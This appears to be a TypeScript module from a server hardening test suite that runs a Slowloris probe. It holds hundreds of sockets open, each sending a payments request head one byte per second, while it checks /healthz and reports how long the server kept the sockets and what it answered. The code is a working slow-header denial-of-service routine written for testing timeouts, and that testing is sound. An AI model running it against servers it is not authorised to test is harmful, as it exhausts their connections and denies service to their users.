// Slowloris: many connections each sending its request head one byte a second, never finishing it, until the
// server cuts them (Node's headersTimeout, checked every connectionsCheckingInterval) or the probe's cap.
// Reports how long the server kept them and what it answered (408 is Node's); meanwhile /healthz is asked
// every few seconds on fresh connections, since a server that holds the sockets must still serve others.
import { connect } from "node:net";
import type { HostileTarget } from "./hostile-target.ts";
import { ProbeTally } from "./probe-tally.ts";
import { rawExchange, requestHead } from "./raw-http-exchange.ts";

export interface SlowHeadersOptions {
  sockets: number;
  /** Give up on the server's cutting them after this long (the probe then closes them and says so). */
  capMs: number;
}

export const SLOW_HEADERS_DEFAULTS: SlowHeadersOptions = { sockets: 200, capMs: 150_000 };
const BYTE_EVERY_MS = 1000;
const HEALTH_EVERY_MS = 5000;

interface Held {
  keptMs: number;
  status: number | null;
  error: string | null;
  cut: boolean;
}

function holdOne(t: HostileTarget, index: number, capMs: number): Promise<Held> {
  const started = performance.now();
  const head = `POST /v1/payments HTTP/1.1\r\nHost: ${t.host}:${t.port}\r\nAuthorization: ${t.serverAuthorization}\r\n`;
  const trickle = `X-Slow-${index}: ${"a".repeat(64)}\r\n`;
  return new Promise((resolve) => {
    const socket = connect({ host: t.host, port: t.port });
    let received = "";
    let sent = 0;
    let error: string | null = null;
    const drip = setInterval(() => {
      socket.write(trickle[sent++ % trickle.length]!);
    }, BYTE_EVERY_MS);
    const cap = setTimeout(() => finish(false), capMs);
    const finish = (cut: boolean) => {
      clearInterval(drip);
      clearTimeout(cap);
      socket.destroy();
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(received);
      resolve({ keptMs: performance.now() - started, status: status ? Number(status[1]) : null, error, cut });
    };
    socket.on("connect", () => socket.write(head));
    socket.on("data", (chunk: Buffer) => {
      received += chunk.toString("latin1");
    });
    socket.on("error", (e: Error & { code?: string }) => {
      error = e.code ?? e.message;
    });
    // Any close before the cap is the server's doing (this side only writes).
    socket.on("close", () => finish(true));
  });
}

export async function runSlowHeadersProbe(
  t: HostileTarget,
  options: SlowHeadersOptions = SLOW_HEADERS_DEFAULTS,
): Promise<{ slow: ProbeTally; health: ProbeTally }> {
  const slow = new ProbeTally("slow headers");
  const health = new ProbeTally("health while slow headers are held");
  let holding = true;
  let slowestHealth = 0;
  const healthLoop = (async () => {
    while (holding) {
      await new Promise((resolve) => setTimeout(resolve, HEALTH_EVERY_MS));
      if (!holding) break;
      const answer = await rawExchange({
        host: t.host,
        port: t.port,
        head: requestHead("GET", "/healthz", [
          ["Host", `${t.host}:${t.port}`],
          ["Connection", "close"],
        ]),
        timeoutMs: 5000,
      });
      health.add(answer, "GET /healthz");
      slowestHealth = Math.max(slowestHealth, answer.ms);
    }
  })();
  // Opened over a second, not in one burst: the probe is about holding sockets, not about the accept queue.
  const held = await Promise.all(
    Array.from({ length: options.sockets }, async (_, i) => {
      await new Promise((resolve) => setTimeout(resolve, (i * 1000) / options.sockets));
      return holdOne(t, i, options.capMs);
    }),
  );
  holding = false;
  await healthLoop;
  // Not a connection error: dropping the connection is what the server should do. Kept past the cap is noted.
  for (const h of held) slow.count(h.status, null, "slow head");
  health.note(`slowest /healthz answer ${Math.round(slowestHealth)} ms`);
  const kept = held.map((h) => h.keptMs / 1000).sort((a, b) => a - b);
  const cut = held.filter((h) => h.cut).length;
  slow.note(
    `${cut} of ${held.length} cut by the server; kept ${kept[0]?.toFixed(1)} s to ${kept.at(-1)?.toFixed(1)} s (median ${kept[Math.floor(kept.length / 2)]?.toFixed(1)} s, cap ${options.capMs / 1000} s)`,
  );
  const errors = new Set(held.map((h) => h.error).filter((e) => e !== null));
  if (errors.size > 0) slow.note(`socket errors seen: ${[...errors].join(", ")}`);
  return { slow, health };
}
